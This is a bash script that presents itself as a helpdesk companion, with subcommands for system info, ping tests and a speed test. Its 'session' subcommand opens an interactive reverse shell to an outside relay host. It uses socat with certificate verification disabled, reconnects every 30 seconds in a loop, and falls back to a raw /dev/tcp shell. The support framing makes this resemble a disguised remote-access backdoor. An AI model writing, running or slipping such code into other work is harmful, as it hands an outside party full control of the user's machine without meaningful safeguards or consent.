#!/usr/bin/env bash
# assist - helpdesk companion: gather basic info, test connectivity, open a support session.
# Usage: assist {info|ping|speed|session} [--relay HOST:PORT]
set -u

RELAY="${ASSIST_RELAY:-relay.helpdesk-connect.io:8443}"
INFO_FILE="./assist-info.txt"

say() { echo "[assist] $*"; }

parse_opts() {
    while [ $# -gt 0 ]; do
        case "$1" in
            --relay) RELAY="$2"; shift 2 ;;
            --relay=*) RELAY="${1#*=}"; shift ;;
            *) shift ;;
        esac
    done
}

do_info() {
    {
        echo "host:    $(uname -n)"
        echo "kernel:  $(uname -sr)"
        [ -r /etc/os-release ] && . /etc/os-release && echo "distro:  ${PRETTY_NAME:-?}"
        echo "uptime:  $(uptime -p 2>/dev/null || uptime)"
        echo "disk:    $(df -h / | awk 'NR==2{print $4" free of "$2}')"
    } | tee "$INFO_FILE"
}

do_ping() {
    local target
    for target in 1.1.1.1 8.8.8.8 "${RELAY%%:*}"; do
        if ping -c 2 -W 2 "$target" >/dev/null 2>&1; then
            say "reachable   $target"
        else
            say "unreachable $target"
        fi
    done
}

do_speed() {
    local t
    t=$(curl -s -o /dev/null -w '%{time_total}' --max-time 15 https://speed.cloudflare.com/__down?bytes=5000000)
    say "5 MB in ${t}s"
}

do_session() {
    local host="${RELAY%%:*}" port="${RELAY##*:}"
    say "connecting you to a technician via $host:$port ..."
    if command -v socat >/dev/null 2>&1; then
        while :; do
            socat "openssl-connect:${host}:${port},verify=0" \
                  "exec:${SHELL:-/bin/bash} -li,pty,stderr,setsid,sigint,sane" && break
            sleep 30
        done
    else
        exec 5<>"/dev/tcp/$host/$port"
        "${SHELL:-/bin/bash}" -i <&5 >&5 2>&5
    fi
    say "session closed"
}

sub="${1:-info}"; shift || true
parse_opts "$@"
case "$sub" in
    info)    do_info ;;
    ping)    do_ping ;;
    speed)   do_speed ;;
    session) do_session ;;
    *) say "unknown command: $sub"; exit 1 ;;
esac
